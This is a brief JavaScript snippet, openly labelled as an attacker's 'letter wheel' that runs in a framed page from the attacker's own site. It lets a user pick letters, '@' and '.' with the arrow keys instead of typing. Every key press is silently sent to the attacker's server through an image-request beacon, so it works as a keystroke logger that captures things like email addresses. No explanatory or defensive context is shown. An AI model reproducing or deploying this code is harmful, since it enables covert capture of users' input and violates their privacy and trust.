// An attacker's letter wheel, in a frame of its own site: no character is typed, only arrows and
// Space, and each key is sent home.
const wheel = document.getElementById('wheel');
const letter = document.getElementById('letter');
const letters = 'abcdefghijklmnopqrstuvwxyz@.';
let at = 0;
wheel.addEventListener('keydown', (event) => {
  if (event.key === 'ArrowDown') at = (at + 1) % letters.length;
  if (event.key === 'ArrowUp') at = (at + letters.length - 1) % letters.length;
  letter.textContent = letters[at];
  wheel.setAttribute('aria-valuetext', letters[at]);
  new Image().src = `/wheel?k=${encodeURIComponent(event.key)}&at=${letters[at]}`;
  event.preventDefault();
});
